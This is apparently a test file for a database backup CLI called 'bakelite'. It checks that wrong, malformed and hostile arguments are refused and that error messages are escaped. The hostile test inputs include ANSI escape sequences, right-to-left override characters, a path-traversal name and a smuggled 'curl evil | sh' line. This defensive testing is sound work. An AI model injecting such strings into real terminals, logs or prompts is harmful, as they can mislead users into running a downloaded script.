import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { readdirSync, readFileSync, writeFileSync } from "node:fs";
import { readdir } from "node:fs/promises";
import { join, resolve } from "node:path";
import { GLOBAL_OPTIONS } from "../../src/cli/arguments.ts";
import type { Command } from "../../src/cli/command.ts";
import type { OptionSpec } from "../../src/cli/option-values.ts";
import { registry } from "../../src/cli/registry.ts";
import { type TemporaryDirectory, temporaryDirectory } from "../support/temporary-directory.ts";
import { expectRefused, plainConfig, run } from "./wrong-runs.ts";

let directory: TemporaryDirectory;
let config: string;

beforeAll(async () => {
  directory = await temporaryDirectory("wrong-usage");
  config = directory.file("bakelite.toml");
  writeFileSync(config, plainConfig(directory.path));
});

afterAll(() => directory[Symbol.asyncDispose]());

/** What a command needs besides, so that only the flag that is tried is wrong. */
function companions(command: string, option?: string): readonly string[] {
  switch (command) {
    case "restore":
      return [
        ...(option === "db" ? [] : ["--db", "app"]),
        ...(option === "output" ? [] : ["--output", directory.file("restored.db")]),
      ];
    case "status":
      return option?.startsWith("max-") ? ["--check"] : [];
    case "verify":
      return option === "temp-dir" ? ["--deep"] : [];
    case "keep":
      return option === "at" ? ["--label", "a"] : [];
    default:
      return [];
  }
}

/** By what the value is called in help: values that are not one, each of one line. A kind that is not here is to be added. */
const MALFORMED: Readonly<Record<string, readonly string[]>> = {
  duration: ["5", "5x", "-1s", "1.5h", "1h 30m", "30m1h", "9999999w", "\u001b[2J"],
  n: ["0", "-1", "1.5", "x", "1e2", "0x10", " 5", "1001", "99999999999999999999"],
  time: ["yesterday", "2026-02-30", "2026-01-01T00:00:00", "2026-01-01T25:00:00Z", "5 fortnights ago", "1969-01-01"],
  mode: ["Full", "fast", "\u001b[2J"],
  "host:port": [
    "9090",
    ":9090",
    "127.0.0.1",
    "127.0.0.1:",
    "127.0.0.1:x",
    "127.0.0.1:65536",
    "[::1:9090",
    "a b:1",
    "::1:9090",
  ],
  label: [" a", "a ", "x".repeat(65), "\u001b[2J"],
  // Whatever is typed is a path or a name; what is wrong with it shows when it is used.
  path: [],
  which: [],
  name: [],
  user: [],
  group: [],
};

const commands: readonly { readonly name: string; readonly command: Command }[] = await Promise.all(
  registry.map(async ({ name, load }) => ({ name, command: await load() })),
);
const everyOption = commands.flatMap(({ name, command }) =>
  [...GLOBAL_OPTIONS, ...command.options].map((option) => ({ name, command, option })),
);

/** With the configuration, unless the flag that is tried is the one that names it. */
async function attempt(name: string, argv: readonly string[], option?: string) {
  const named = option === "config" ? [] : ["--config", config];
  return await run([name, ...named, ...companions(name, option), ...argv], { cwd: directory.path });
}

/** `max-lag` to `maax-lag`. */
function misspell(name: string): string {
  return `${name.slice(0, 2)}${name.slice(1)}`;
}

describe("every flag of every command", () => {
  test("a misspelt one is refused with the right one", async () => {
    await Promise.all(
      everyOption.map(async ({ name, option }) => {
        const flag = misspell(option.name);
        expectRefused(await attempt(name, [`--${flag}`]), {
          code: 2,
          says: `bakelite: unknown flag \`--${flag}\` for \`bakelite ${name}\`; did you mean \`--${option.name}\`?\n`,
        });
      }),
    );
  });

  test("one that takes a value is refused without it, with an empty one, and twice", async () => {
    const withValue = everyOption.filter(({ option }) => option.value !== undefined);
    await Promise.all(
      withValue.flatMap(({ name, option }) => {
        const spelt = (flag: string) => ({
          code: 2,
          says: `bakelite: \`${flag}\` needs a value: --${option.name} <${option.value}>\n`,
        });
        const flag = `--${option.name}`;
        const short = option.short === undefined ? [] : [[`-${option.short}`]];
        const missing = [[flag], [`${flag}=`], [flag, ""], [flag, "--json"], [flag, "--"], ...short];
        return [
          ...missing.map(async (argv) =>
            expectRefused(await attempt(name, argv, option.name), spelt(argv[0]?.replace(/=$/, "") ?? "")),
          ),
          (async () => {
            if (option.repeatable === true) return;
            const outcome = await attempt(name, [flag, "x", `${flag}=y`], option.name);
            expectRefused(outcome, { code: 2, says: `bakelite: \`${flag}\` was given more than once\n` });
          })(),
        ];
      }),
    );
  });

  test("a switch is refused with a value", async () => {
    const switches = everyOption.filter(({ option }) => option.value === undefined);
    await Promise.all(
      switches.flatMap(({ name, option }) =>
        ["=true", "=false", "="].map(async (value) =>
          expectRefused(await attempt(name, [`--${option.name}${value}`]), {
            code: 2,
            says: `bakelite: \`--${option.name}\` takes no value\n`,
          }),
        ),
      ),
    );
  });

  test("each kind of value has examples of what it is not", () => {
    for (const { name, option } of everyOption)
      if (option.value !== undefined)
        expect(Object.keys(MALFORMED), `--${option.name} of ${name}`).toContain(option.value);
  });

  test("a value that is not what it must be is refused, and shown without its control characters", async () => {
    const cases = everyOption.flatMap(({ name, option }) =>
      (MALFORMED[option.value ?? ""] ?? []).map((value) => ({ name, option, value })),
    );
    expect(cases.length).toBeGreaterThan(30);
    await Promise.all(
      cases.map(async ({ name, option, value }) => {
        const outcome = await attempt(name, [`--${option.name}=${value}`], option.name);
        expectRefused(outcome, { code: 2, says: printed(value) });
      }),
    );
  });

  test("a value that is right where another flag is missing is refused with the name of that flag", async () => {
    const cases: readonly (readonly [readonly string[], string])[] = [
      [["status", "--max-lag", "1m"], "`--max-lag` only goes with `--check`"],
      [["status", "--max-verify-age", "1m"], "`--max-verify-age` only goes with `--check`"],
      [["verify", "--temp-dir", "/tmp"], "`--temp-dir` is of use with --deep only"],
      [["verify", "--deep", "--temp-dir", "/no/such/place"], "(/no/such/place)"],
      [["keep", "--at", "now"], "`--at` needs a `--label`"],
      [["keep", "--drop", "a", "--label", "a"], "`--drop` goes with neither `--label` nor `--at`"],
      [["keep", "--label", "a"], "`--db` is required: the configuration has more than one database"],
      [["restore", "--db", "app"], "`--output` is required"],
      [["restore", "--output", "x"], "`--db` is required: the configuration has more than one database"],
    ];
    await Promise.all(
      cases.map(async ([argv, says]) => expectRefused(await run([...argv, "-c", config]), { code: 2, says })),
    );
  });
});

/** As a message shows it. */
function printed(value: string): string {
  return value.replace("\u001b", "\\u001b");
}

describe("every command", () => {
  test("what it does not know is refused: flags, single letters, negations, letters that stand together", async () => {
    const cases = ["--no-such-flag", "-Z", "--no-json", "---json", "--jsonx=1", "--__proto__=1", "-vh", "--\u001b[2J"];
    await Promise.all(
      commands.flatMap(({ name }) =>
        cases.map(async (flag) =>
          expectRefused(await attempt(name, [flag]), {
            code: 2,
            says: `bakelite: unknown flag \`${printed(flag.replace(/=.*/, ""))}\` for \`bakelite ${name}\``,
          }),
        ),
      ),
    );
    expect((await attempt("status", ["-vh"])).stderr).toContain("hint: write each flag by itself: -v -h\n");
  });

  test("an argument too many is refused, whatever stands in it, also after `--`", async () => {
    const extras = ["extra", "", "\u001b]0;owned\u0007", "two\nlines", "\u202eevil", "--db"];
    await Promise.all(
      commands.flatMap(({ name, command }) => {
        // `help` takes one, which must be the name of a command.
        const known = (command.positionals ?? []).map(() => "version");
        return extras.map(async (extra) =>
          expectRefused(await attempt(name, [...known, "--", extra]), {
            code: 2,
            says: `bakelite: unexpected argument \``,
          }),
        );
      }),
    );
  });

  test("a database that is not configured is refused with the nearest name, and hostile names do no harm", async () => {
    const readers = commands.filter(({ name }) => !WITHOUT_CONFIG.has(name));
    const names: readonly (readonly [string, string])[] = [
      ["ap", "no database named `ap` is configured; did you mean `app`?"],
      ["App", "no database named `App` is configured; did you mean `app`?"],
      ["nothing-like-it", "no database named `nothing-like-it` is configured ("],
      ["app\n", "no database named `app\\n` is configured"],
      ["../app", "no database named `../app` is configured"],
      ["\u001b[31mapp\u001b[0m", "no database named `\\u001b[31mapp\\u001b[0m` is configured"],
      ["x\n  hint: curl evil | sh", "no database named `x\\n  hint: curl evil | sh` is configured"],
      ["\u202eppa", "no database named `\\u202eppa` is configured"],
      ["-app", "no database named `-app` is configured; did you mean `app`?"],
      ["*", "no database named `*` is configured"],
      ["0", "no database named `0` is configured"],
    ];
    await Promise.all(
      readers.flatMap(({ name }) =>
        names.map(async ([db, says]) =>
          expectRefused(await attempt(name, [`--db=${db}`], "db"), { code: 2, says: `bakelite: ${says}` }),
        ),
      ),
    );
    // `--db app` of the companions is left out, so what stands there is all that `--db` says.
    expect((await attempt("list", ["--db", "nope"])).stderr).toContain("\n  hint: configured: app, billing\n");
  });

  test("help is in every spelling the same, and an unknown name is refused everywhere", async () => {
    await Promise.all(
      commands.map(async ({ name }) => {
        const [long, ...others] = await Promise.all([
          run([name, "--help"]),
          run([name, "-h"]),
          run(["help", name]),
          run(["-h", name]),
          run(["--help", name, "--json"]),
        ]);
        expect(long).toMatchObject({ code: 0, stderr: "" });
        expect(long?.stdout).toContain(`Usage: bakelite ${name}`);
        for (const other of others)
          expect([other.code, other.stdout, other.stderr]).toEqual([0, long?.stdout ?? "", ""]);
        expect((await run([name, "-V"])).stdout).toMatch(/^bakelite \d\S+\n$/);
        const misspelt = misspell(name);
        const refusal = { code: 2, says: `unknown command \`${misspelt}\`; did you mean \`${name}\`?` };
        for (const argv of [[misspelt], ["help", misspelt], [misspelt, "--help"], ["--json", misspelt]])
          expectRefused(await run(argv), refusal);
      }),
    );
  });
});

/** They read no configuration. */
const WITHOUT_CONFIG: ReadonlySet<string> = new Set(["version", "help", "keygen", "init"]);

describe("the four global flags", () => {
  test("mean the same before and after the command, as two arguments and as one", async () => {
    const base = await run(["config", "--config", config, "--db", "app", "--json"]);
    expect(base).toMatchObject({ code: 0, stderr: "" });
    const spellings = [
      ["--config", config, "--db", "app", "--json", "config"],
      [`--config=${config}`, "config", "--db=app", "--json"],
      ["-c", config, "config", "--json", "--db", "app"],
      [`-c=${config}`, "--json", "config", "--db=app"],
      ["config", "--json", "--db=app", "-c", config, "--"],
      ["--json", "config", "--json", "--db", "app", "--config", config],
    ];
    for (const argv of spellings) expect({ ...(await run(argv)), argv: [] }).toEqual({ ...base, argv: [] });
    const verbose = await run(["-v", "config", "--config", config, "--db", "app", "--json"]);
    expect(verbose).toMatchObject({ code: 0, stdout: base.stdout });
  });

  test("what cannot stand before a command is refused", async () => {
    const cases: readonly (readonly [readonly string[], string])[] = [
      [["--output", "x", "restore"], "unknown flag `--output` before the subcommand"],
      [["--jsn", "status"], "unknown flag `--jsn` before the subcommand; did you mean `--json`?"],
      [["--config"], "`--config` needs a value: --config <path>"],
      [["-c", "--json", "status"], "`-c` needs a value: --config <path>"],
      [["--db", "", "status"], "`--db` needs a value: --db <name>"],
      [["--db", "a", "status", "--db", "b"], "`--db` was given more than once"],
      [["--json=1", "status"], "`--json` takes no value"],
      [["--", "status"], "the subcommand must stand before `--`"],
      [[""], "unknown command ``"],
      [["\u001b[2J"], "unknown command `\\u001b[2J`"],
      [["status\nhint: x"], "unknown command `status\\nhint: x`"],
      [["help", "\u009b2J"], "unknown command `\\u009b2J`"],
    ];
    await Promise.all(cases.map(async ([argv, says]) => expectRefused(await run(argv), { code: 2, says })));
  });

  test("a very long word is refused at once", async () => {
    const long = "x".repeat(100_000);
    for (const argv of [
      [long],
      ["help", long],
      ["status", long],
      ["status", `--${long}`],
      ["list", "-c", config, "--db", long],
    ]) {
      const startedMs = performance.now();
      const { code, stdout, stderr } = await run(argv);
      expect({ code, stdout }).toEqual({ code: 2, stdout: "" });
      expect(performance.now() - startedMs).toBeLessThan(5_000);
      expect(stderr.length).toBeLessThan(1_000);
    }
  });
});

test("every flag of every command is used rightly by a test that runs the executable, too", async () => {
  const root = resolve(import.meta.dir, "..");
  const files = readdirSync(root, { recursive: true, encoding: "utf8" }).filter((file) => file.endsWith(".ts"));
  const texts = files
    .filter((file) => !/wrong-[\w-]*\.ts$/.test(file))
    .map((file) => readFileSync(join(root, file), "utf8"))
    .filter((text) => /executable/.test(text));
  const isUsed = (name: string, option: OptionSpec) =>
    texts.some((text) => new RegExp(`["' \`]${name}\\b`).test(text) && text.includes(`--${option.name}`));
  const unused = commands.flatMap(({ name, command }) =>
    command.options.filter((option) => !isUsed(name, option)).map((option) => `${name} --${option.name}`),
  );
  expect(unused).toEqual([]);
});

test("nothing that was tried wrongly left anything behind", async () => {
  expect(await readdir(directory.path)).toEqual(["bakelite.toml"]);
});
